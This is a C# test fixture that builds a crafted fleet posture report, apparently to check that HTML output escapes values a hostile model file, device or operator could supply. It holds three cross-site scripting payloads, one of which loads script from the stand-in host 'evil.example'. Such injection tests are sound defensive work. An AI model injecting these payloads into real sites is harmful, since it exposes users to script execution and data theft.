using Rampart.Posture.Baselines;
using Rampart.Posture.FleetAudit;
using Rampart.Posture.Reports;
using Rampart.Posture.Risk;
using Rampart.Posture.Tests.FleetAudit;

namespace Rampart.Posture.Tests.Reports;

/// <summary>A report over the crafted fleet, with strings a hostile model file, device or operator could have supplied.</summary>
internal static class Reports
{
    public const string HostileModel = "<script>alert('model')</script>/Cam\"'&";
    public const string HostileDevice = "<img src=x onerror=alert(1)>";
    public const string HostileSummary = "</td><script src=\"https://evil.example/x.js\"></script>";

    public static PostureReport Crafted()
    {
        var context = Fleets.Crafted();
        var baseline = FleetEvaluation.Fleet(context.Evidence);
        var byModel = new Dictionary<string, IReadOnlyDictionary<string, double>>(baseline.ComplianceByModel, StringComparer.Ordinal)
        {
            [HostileModel] = new Dictionary<string, double> { ["etsi-en-303-645"] = 0.25 },
        };
        baseline = baseline with
        {
            ComplianceByModel = byModel,
            Risks = [.. baseline.Risks, new RiskScore(HostileDevice, 97, "critical", new Dictionary<string, int> { ["baseline"] = 25 })],
        };
        var checks = AuditChecks.Run(context, []).Select(c => c.Status == CheckStatus.NonCompliant && c.Check == "unsupported-firmware" ? c with { Summary = HostileSummary } : c).ToArray();
        var run = new AuditRun(7, Subjects.Now.AddMinutes(-1), Subjects.Now, "scheduled", "system:fleet-audit", baseline.Devices, checks);
        var days = new[]
        {
            new PostureSnapshot(Subjects.Now.AddDays(-2), 5, 40, new Dictionary<string, int> { ["low"] = 3 }, new Dictionary<string, double> { ["etsi-en-303-645"] = 0.5 }, 6),
            new PostureSnapshot(Subjects.Now, 5, 30, new Dictionary<string, int> { ["low"] = 4 }, new Dictionary<string, double> { ["etsi-en-303-645"] = 0.7 }, 4),
        };
        return new PostureReport(Subjects.Now, baseline, run, PostureTrend.Of(Subjects.Now.AddDays(-30), days));
    }
}
